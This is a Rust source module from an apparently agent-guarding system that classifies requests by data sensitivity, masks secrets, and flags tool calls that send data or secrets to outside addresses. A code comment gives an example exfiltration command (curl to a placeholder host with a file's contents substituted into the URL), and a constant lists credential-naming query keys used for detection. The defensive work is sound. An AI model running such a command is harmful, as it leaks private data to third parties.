//! Data classification of a request: by the resources of its acts, and by the sensitive data in its text (`patterns`,
//! confirmed by `checks`). Secrets are masked wherever the parser repeats the input.

mod checks;
mod conceal;
mod mask;
mod patterns;

pub use conceal::{Concealer, Redaction, conceal_text, has_secrets};

use rulekeep_types::{Classification, Operation, Resource, RiskLevel, Target, TargetRole, Unread};

use super::reading::{Act, Format, Reading};
use super::sign::{Sign, Signs};

/// The highest classification among the acts.
pub(super) fn of(acts: &[Act], signs: Signs) -> Classification {
    let by_act = acts.iter().map(|act| of_resource(act.resource, act.signs)).max().unwrap_or(Classification::Internal);
    let is_sensitive = signs.has(Sign::Secret) || signs.has(Sign::Sensitive);
    if is_sensitive { by_act.max(Classification::Confidential) } else { by_act }
}

fn of_resource(resource: Resource, signs: Signs) -> Classification {
    match resource {
        Resource::Credential if signs.has(Sign::PublicPart) => Classification::Internal,
        Resource::Credential | Resource::Health => Classification::Restricted,
        Resource::Customer
        | Resource::Payment
        | Resource::Email
        | Resource::Contact
        | Resource::Account
        | Resource::Permission => Classification::Confidential,
        Resource::Information | Resource::Web | Resource::Social | Resource::Media => Classification::Public,
        _ => Classification::Internal,
    }
}

/// The sensitive data that the patterns found in a text.
#[derive(Debug, Default)]
pub(super) struct Contents {
    signs: Signs,
    class: Option<Classification>,
    /// The values that must not be repeated, sorted by length, longest first.
    secrets: Vec<String>,
}

/// Searches a text and the texts decoded from it for sensitive data.
pub(super) fn scan(text: &str, unwrapped: &[String]) -> Contents {
    let mut contents = Contents::default();
    for text in std::iter::once(text).chain(unwrapped.iter().map(String::as_str)) {
        patterns::scan(text, &mut contents);
    }
    contents.secrets.sort_by_key(|secret| std::cmp::Reverse(secret.len()));
    contents
}

impl Contents {
    /// The highest classification among the findings; `PUBLIC` if there are none.
    pub(super) fn class(&self) -> Classification {
        self.class.unwrap_or(Classification::Public)
    }

    /// Adds the findings to a reading, and masks the secrets in what it quotes.
    pub(super) fn mark(&self, reading: &mut Reading) {
        for sign in self.signs.iter() {
            reading.facts.signs.add(sign);
            reading.facts.show(sign, sign.text());
        }
        // A shell command's words are assembled anew, and only then may a secret be whole.
        let by_piece = reading.format == Format::Shell || self.secrets.len() >= MOST_SECRETS;
        if self.secrets.is_empty() && !by_piece {
            return;
        }
        let conceal = |text: &str| {
            let masked = mask::masked(text, &self.secrets);
            if !by_piece {
                return masked;
            }
            let found = secrets_of(masked.as_deref().unwrap_or(text));
            mask::masked(masked.as_deref().unwrap_or(text), &found).or(masked)
        };
        let pieces =
            reading.acts.iter_mut().flat_map(|act| [&mut act.found.operation, &mut act.found.resource]).flatten();
        for piece in pieces.chain(reading.facts.shown.iter_mut().map(|(_, found)| found)) {
            if let Some(masked) = conceal(piece) {
                *piece = masked.into();
            }
        }
        let names = reading.acts.iter_mut().flat_map(|act| [&mut act.noun, &mut act.verb]);
        for name in names.chain(reading.facts.quoted_mut()) {
            if let Some(masked) = conceal(name) {
                *name = masked;
            }
        }
    }

    /// Collects the secrets that must not be stored, including those that the format readers noted.
    pub(super) fn redaction(self, reading: &mut Reading, is_whole: bool) -> Redaction {
        let mut secrets = self.secrets;
        secrets.append(&mut reading.facts.secrets);
        secrets.sort_by_key(|secret| std::cmp::Reverse(secret.len()));
        Redaction { secrets, is_whole }
    }

    /// Marks an opened address that contains a secret: opening it sends the secret to a third party.
    pub(super) fn mark_addresses(&self, reading: &mut Reading) {
        let leaks = |target: &Target| {
            [Some(target.value.as_str()), target.original.as_deref()].into_iter().flatten().any(|text| {
                let is_opened = text.contains("://") || text.contains('?') || text.starts_with("www.");
                let has_secret = || self.secrets.iter().any(|secret| text.contains(secret.as_str()));
                is_opened && (has_secret() || names_secret_value(text))
            })
        };
        let opens = |act: &Act| act.resource == Resource::Web && act.operation == Operation::Read;
        let is_opened = reading.acts.iter().any(opens);
        // Everything else that the call passes goes to the same address: parameters, headers, a search text.
        let is_handed_on = reading.format == Format::ToolCall && is_opened && !self.secrets.is_empty();
        // `curl https://x.example/?d=$(cat notes)`: the data read in the same call is put into the address.
        let is_filled_in = |part: &Unread| {
            let is_address = part.found.contains("://") || part.found.contains('?') || part.found.contains('.');
            is_address && (part.found.contains(['$', '`']) || part.found.contains("{}"))
        };
        let reads =
            |act: &Act| act.operation == Operation::Read && !matches!(act.resource, Resource::Web | Resource::Unknown);
        let is_filled_in = is_opened && reading.facts.unread.iter().any(is_filled_in) && reading.acts.iter().any(reads);
        if is_handed_on || is_filled_in || reading.facts.targets.iter().any(leaks) {
            let act = Act::new("open", "address_with_secret", Resource::Web, Operation::Send, 0.9);
            reading.push(act.marked(Sign::Secret).at_risk(RiskLevel::High));
        }
        sends_away(reading);
    }

    fn note(&mut self, sign: Sign, class: Classification) {
        self.signs.add(sign);
        self.class = self.class.max(Some(class));
    }

    fn keep(&mut self, secret: &str) {
        if self.secrets.len() < MOST_SECRETS && !self.secrets.iter().any(|known| known == secret) {
            self.secrets.push(secret.to_owned());
        }
    }
}

/// Adds the sending that neither the call's name nor another argument states: to a named recipient, or to an address
/// that is written to.
fn sends_away(reading: &mut Reading) {
    let is_quiet = |act: &Act| {
        matches!(act.operation, Operation::Read | Operation::Write)
            && matches!(
                act.resource,
                Resource::File
                    | Resource::Document
                    | Resource::Information
                    | Resource::Media
                    | Resource::Code
                    | Resource::Database
                    | Resource::Customer
                    | Resource::Analytics
                    | Resource::System
            )
    };
    if reading.format != Format::ToolCall || !reading.acts.iter().all(is_quiet) {
        return;
    }
    let away = reading.facts.targets.iter().find_map(|target| {
        let text = target.original.as_deref().unwrap_or(&target.value);
        let is_remote = || {
            text.split_once("://").is_some_and(|(scheme, _)| !scheme.eq_ignore_ascii_case("file"))
                || text.split_once(':').is_some_and(|(host, _)| host.contains('@'))
                || text.starts_with("\\\\")
        };
        match target.role {
            TargetRole::To | TargetRole::Cc | TargetRole::Bcc if text.contains('@') => Some((Resource::Email, text)),
            TargetRole::Write | TargetRole::Destination if text.contains('@') && !text.contains(['/', ':']) => {
                Some((Resource::Email, text))
            }
            TargetRole::Write | TargetRole::Destination if is_remote() => Some((Resource::Web, text)),
            _ => None,
        }
    });
    if let Some((resource, text)) = away {
        reading.push(Act::new("send", "outside", resource, Operation::Send, 0.6).named_by(text));
    }
}

/// Returns whether an address's query gives a value to a key that names a secret.
fn names_secret_value(address: &str) -> bool {
    let query = address.split_once('?').map_or("", |(_, query)| query);
    let has_value = |pair: &str| {
        pair.split_once('=').is_some_and(|(key, value)| {
            value.len() >= LEAST_SECRET && SECRET_KEYS.iter().any(|known| known.eq_ignore_ascii_case(key))
        })
    };
    query.split(['&', ';', '#']).take(MOST_PAIRS).any(has_value)
        || address.split_once("://").is_some_and(|(_, rest)| {
            let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
            authority.rsplit_once('@').is_some_and(|(user, _)| user.contains(':'))
        })
}

/// Query keys whose value is a secret.
const SECRET_KEYS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "pass",
    "secret",
    "token",
    "access_token",
    "auth_token",
    "api_key",
    "apikey",
    "api-key",
    "client_secret",
    "private_key",
    "auth",
    "authorization",
    "session",
    "sessionid",
    "session_id",
    "credential",
];
/// Length of the shortest value that counts as a secret, in bytes.
const LEAST_SECRET: usize = 6;
/// Maximum number of query pairs that are looked at.
const MOST_PAIRS: usize = 256;

/// Compiles the patterns ahead of time, so that no request has to wait for it.
pub fn prepare() {
    patterns::prepare();
}

/// The secrets in a text, sorted by length, longest first.
fn secrets_of(text: &str) -> Vec<String> {
    scan(text, &[]).secrets
}

/// Maximum number of secrets collected from one text; beyond it, each quoted piece is scanned separately.
const MOST_SECRETS: usize = 64;
